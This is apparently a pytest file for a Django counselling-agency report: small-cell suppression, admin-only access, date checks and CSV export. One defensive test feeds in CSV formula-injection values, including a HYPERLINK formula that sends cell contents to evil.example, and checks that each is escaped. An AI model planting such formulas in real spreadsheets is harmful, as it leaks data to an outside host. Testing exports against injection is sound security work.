"""The agency report: only the agency's admins; exact figures; groups under 5 hidden,
with a second cell hidden where one could be found by subtraction; the CSV hides the
same cells."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from tests.factories import give_totp, make_member
from tests.outcomes.conftest import answered, closed_case
from tests.personas import CASE_VIEWERS
from tremplin.casework.models import FollowUp
from tremplin.organizations.models import Role
from tremplin.outcomes import report
from tremplin.outcomes.models import SurveyKind

pytestmark = pytest.mark.django_db
URL = "/{lang}/counselling/agencies/agence-horizon/report/"


# ------------------------------------------------------------------ the rule


@pytest.mark.parametrize(
    ("counts", "hidden"),
    [
        ([4, 5, 6], [True, True, False]),  # one hidden: the smallest other goes too
        ([6, 4, 6], [True, True, False]),  # ties: the first of the smallest
        ([3, 2, 10], [True, True, False]),  # two hidden: nothing to add
        ([5, 6, 7], [False, False, False]),
        ([4, 8], [True, True]),
        ([0, 9], [True, True]),  # zero is fewer than five
        ([9], [False]),  # a single cell is the total itself
        ([4], [True]),
    ],
)
def test_suppression_hides_small_cells_and_a_complement(counts, hidden):
    assert report.suppress(counts) == hidden


def test_without_a_shown_total_no_complement_is_needed():
    assert report.suppress([4, 5], total_shown=False) == [True, False]


def test_breakdown_hides_the_total_under_five():
    found = report.breakdown([("a", "A", 2), ("b", "B", 1)])
    assert found.total.value is None and found.total.suppressed
    assert [c.figure.value for c in found.cells] == [None, None]


# ------------------------------------------------------------------ the figures


@pytest.fixture
def data(crew):
    """dave: 5 answers (5, 5, 4, 3, 1) under "Emploi"; erin: 4 answers (all 5) with no
    service; an answer from two years ago (outside the default period); follow-ups."""
    for score in (5, 5, 4, 3, 1):
        answered(crew.agency, crew.dave, score, service="Emploi")
    for _ in range(4):
        answered(crew.agency, crew.erin, 5)
    answered(crew.agency, crew.erin, 1, when=timezone.now() - timedelta(days=730))
    # Another agency's answers never count here.
    for _ in range(6):
        answered(crew.other_agency, crew.frank, 1)
    today = timezone.localdate()
    three = [closed_case(crew.agency, crew.dave) for _ in range(6)]
    for index, case in enumerate(three):
        outcome = "employed_full_time" if index < 5 else "training"
        FollowUp.objects.create(case=case, months=3, due_on=today, status="done", outcome=outcome)
    six = {"employed_part_time": 6, "training": 6, "other": 6}
    for outcome, count in six.items():
        for _ in range(count):
            FollowUp.objects.create(
                case=closed_case(crew.agency, crew.dave),
                months=6,
                due_on=today,
                status="done",
                outcome=outcome,
            )
    for _ in range(4):
        FollowUp.objects.create(
            case=closed_case(crew.agency, crew.dave), months=6, due_on=today, status="unreachable"
        )
    # A follow-up still to do is not an outcome.
    FollowUp.objects.create(case=three[0], months=6, due_on=today)
    return crew


def test_the_report_figures_are_exact(data):
    found = report.build_report(data.agency, *report.default_period())
    # alice (active) + 9 answered clients + 6 + 22 follow-up clients, all closed today.
    assert found.clients_served.value == 1 + 9 + 6 + 22
    assert found.active_now.suppressed and found.active_now.value is None  # only alice
    assert [(c.key, c.figure.value) for c in found.exits.cells] == [("employed", 37)]
    assert found.overall.answers == 9 and found.overall.percent == 78  # 7 of 9 at 4 or 5
    # erin's 4 answers are hidden, and so is dave's group (else 9 - 5 = 4).
    assert [(s.label, s.suppressed, s.percent) for s in found.by_counsellor] == [
        ("Dave Côté", True, None),
        ("Erin Walsh", True, None),
    ]
    assert [(s.key, s.suppressed) for s in found.by_service] == [("Emploi", True), ("", True)]
    assert [(s.key, s.answers_shown, s.percent) for s in found.by_kind] == [("exit", 9, 78)]
    months = dict(found.outcomes)
    assert sorted(months) == [3, 6]
    assert [c.figure.value for c in months[3].cells] == [5, None, None, None]
    assert months[3].total.value == 6
    # Only "unreachable" (4) is under 5: the smallest other (employed, 6) is hidden too.
    assert [c.figure.value for c in months[6].cells] == [None, 6, 6, None]
    assert months[6].total.value == 22


def test_five_answers_show_a_group_four_hide_it(data):
    answered(data.agency, data.erin, 3)  # erin: 5 answers, 4 at 5 and one at 3
    found = report.build_report(data.agency, *report.default_period())
    assert [(s.label, s.answers_shown, s.percent) for s in found.by_counsellor] == [
        ("Dave Côté", 5, 60),
        ("Erin Walsh", 5, 80),
    ]
    assert found.overall.percent == 70


def test_the_period_filters_answers(data):
    today = timezone.localdate()
    old = report.build_report(data.agency, today - timedelta(days=800), today - timedelta(days=700))
    assert old.overall.answers == 1 and old.overall.suppressed
    assert old.overall.percent is None
    assert old.clients_served.value is None  # only the two-year-old case


def test_the_mid_service_survey_is_its_own_group(data):
    for score in (5, 4, 4, 2, 5):
        answered(data.agency, data.dave, score, kind=SurveyKind.MID_SERVICE)
    found = report.build_report(data.agency, *report.default_period())
    assert [(s.key, s.answers_shown, s.percent) for s in found.by_kind] == [
        ("exit", 9, 78),
        ("mid_service", 5, 80),
    ]


# ------------------------------------------------------------------ the page


def test_greta_sees_the_report_with_suppressed_cells(data, browser_of):
    page = browser_of("greta").get(URL.format(lang="en"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "78&nbsp;%" in text
    assert "fewer than 5" in text
    assert "<svg" in text and 'role="img"' in text and "<title" in text
    assert 'style="' not in text.split("<main", 1)[1]
    # Hidden groups show no number anywhere, charts included.
    assert "Erin Walsh" in text and "80&nbsp;%" not in text and "100&nbsp;%" not in text


@pytest.mark.parametrize("name", CASE_VIEWERS)
def test_only_the_agencys_admins_open_the_report(data, browser_of, name):
    for url in (URL.format(lang="fr"), URL.format(lang="fr") + "csv/"):
        response = browser_of(name).get(url)
        if name == "greta":
            assert response.status_code == 200
        elif name == "anonymous":
            assert response.status_code == 302
        else:
            assert response.status_code == 404


def test_an_admin_of_another_agency_gets_a_404(data, as_user):
    hank = make_member(data.other_agency, Role.ADMIN, email="hank@example.org", name="Hank")
    give_totp(hank)
    client = as_user(hank)
    assert client.get(URL.format(lang="fr")).status_code == 404
    assert client.get(URL.format(lang="fr") + "csv/").status_code == 404
    assert client.get("/fr/counselling/agencies/emploi-boreal/report/").status_code == 200
    assert client.get("/fr/counselling/agencies/nowhere/report/").status_code == 404


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("start=2025-13-01", "Enter a date as YYYY-MM-DD"),
        ("start=2025-06-01&end=2025-01-01", "on or after the start date"),
        ("start=1900-01-01", "Choose a date between"),
        ("start=2000-01-01&end=2020-01-01", "at most ten years"),
    ],
)
def test_bad_dates_keep_the_text_and_explain(data, browser_of, query, message):
    response = browser_of("greta").get(URL.format(lang="en") + "?" + query)
    assert response.status_code == 400
    text = response.content.decode()
    assert message in text
    first = query.split("&")[0].split("=")[1]
    assert f'value="{first}"' in text
    assert browser_of("greta").get(URL.format(lang="en") + "csv/?" + query).status_code == 400


# ------------------------------------------------------------------ the CSV


def test_the_csv_hides_the_same_cells(data, browser_of):
    response = browser_of("greta").get(URL.format(lang="en") + "csv/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["Section", "Group", "Measure", "Value"]
    table = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
    assert table[("Satisfaction", "All answers", "Answers")] == "9"
    assert table[("Satisfaction", "All answers", "Satisfied (4 or 5)")] == "78 %"
    assert table[("Satisfaction by counsellor", "Erin Walsh", "Answers")] == "fewer than 5"
    assert table[("Satisfaction by counsellor", "Dave Côté", "Answers")] == "fewer than 5"
    assert table[("Satisfaction by service", "Not specified", "Answers")] == "fewer than 5"
    assert table[("Follow-up at 6 months", "Employed", "Follow-ups")] == "fewer than 5"
    assert table[("Follow-up at 6 months", "Total", "Follow-ups")] == "22"
    assert table[("Clients", "Active now", "Clients")] == "fewer than 5"


def test_the_csv_headers_follow_the_language(data, browser_of):
    response = browser_of("greta").get(URL.format(lang="fr") + "csv/")
    assert response["Content-Disposition"].startswith('attachment; filename="report-agence')


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example/?"&A1,"Erin")', "+1+1", "-1+1", "@SUM(A1)", "\tErin"]
)
def test_no_cell_of_the_csv_is_a_formula(data, crew, browser_of, name):
    """A counsellor's name reaches the CSV: typed as a formula, the spreadsheet must
    show it as text (a quote first), not run it."""
    crew.erin.profile.display_name = name
    crew.erin.profile.save()
    raw = browser_of("greta").get(URL.format(lang="en") + "csv/").content
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    groups = {r[1] for r in rows[1:] if r[0] == "Satisfaction by counsellor"}
    assert "'" + name in groups
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
